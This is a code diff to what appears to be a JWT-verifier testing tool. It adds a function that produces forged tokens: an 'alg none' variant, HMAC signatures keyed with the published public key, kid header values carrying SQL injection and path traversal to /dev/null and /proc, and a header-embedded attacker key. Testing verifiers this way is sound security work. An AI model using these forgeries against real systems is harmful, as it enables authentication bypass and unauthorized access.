@@ -1,15 +1,33 @@
 """Tokens that look right and are not: altered in one character, or forged."""
 
-from collections.abc import Iterator
+import hashlib
+import hmac
+import json
+from collections.abc import Iterator, Mapping, Sequence
 from datetime import UTC, datetime
 from typing import Any, Final
 
 from idprobe.errors import EvidenceError
-from idprobe.jose import generate_key, looks_like_jwt, read_jwt, sign_jwt
+from idprobe.jose import (
+    encode,
+    generate_key,
+    looks_like_jwt,
+    public_key,
+    public_pem,
+    read_jwt,
+    sign_jws,
+    sign_jwt,
+)
 
-__all__ = ["altered", "forgeries"]
+__all__ = ["altered", "forgeries", "forgeries_by_header"]
 
 NEXT: Final = {"z": "a", "Z": "A", "9": "0", "f": "a", "F": "A"}
+KIDS: Final[Mapping[str, tuple[str, bytes]]] = {
+    "kid-query": ("idprobe' UNION SELECT 'idprobe", b"idprobe"),
+    "kid-empty-file": ("../../../../../../dev/null", b""),
+    "kid-known-file": ("../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
+}
+"""Names of keys that lead a careless reader to octets which we know, and the octets."""
 JWT_PARTS: Final = ("header", "claims", "signature")
 
 
@@ -53,3 +71,31 @@ def _signed_by_us(token: str, claims: dict[str, Any]) -> str:
     kty = "EC" if str(header.get("alg")).startswith("ES") else "RSA"
     alg = {"EC": "ES256", "RSA": "RS256"}[kty]
     return sign_jwt(claims, generate_key(kty), {**header, "alg": alg})
+
+
+def forgeries_by_header(
+    token: str, published: Sequence[Mapping[str, Any]]
+) -> Iterator[tuple[str, str]]:
+    """Yield copies of a JWT whose header asks for another way to verify it (RFC 8725 2.1, 3.10).
+
+    The published key is a secret, the key is in the header or anywhere else, or there is none.
+    """
+    header, claims = dict(read_jwt(token).header), dict(read_jwt(token).claims)
+    payload = json.dumps(claims).encode()
+    yield "alg-none-in-other-case", sign_jws(payload, {}, {**header, "alg": "nOnE"}, alg="none")
+    key = next((one for one in published if one.get("kid") == header.get("kid")), None)
+    if key is not None:
+        as_text = json.dumps(dict(key), separators=(",", ":"))
+        for name, secret in (("pem", public_pem(key)), ("jwk", as_text)):
+            yield f"hmac-by-{name}", _by_hmac(header, payload, secret.encode())
+    for name, (kid, octets) in KIDS.items():
+        yield name, _by_hmac({**header, "kid": kid}, payload, octets)
+    stranger = generate_key("RSA")
+    embedded = {**header, "alg": "RS256", "jwk": public_key(stranger)}
+    yield "embedded-key", sign_jwt(claims, stranger, embedded)
+
+
+def _by_hmac(header: Mapping[str, Any], payload: bytes, secret: bytes) -> str:
+    """Return a JWT by HS256 with any octets as its key."""
+    start = f"{encode(json.dumps({**header, 'alg': 'HS256'}).encode())}.{encode(payload)}"
+    return f"{start}.{encode(hmac.new(secret, start.encode(), hashlib.sha256).digest())}"
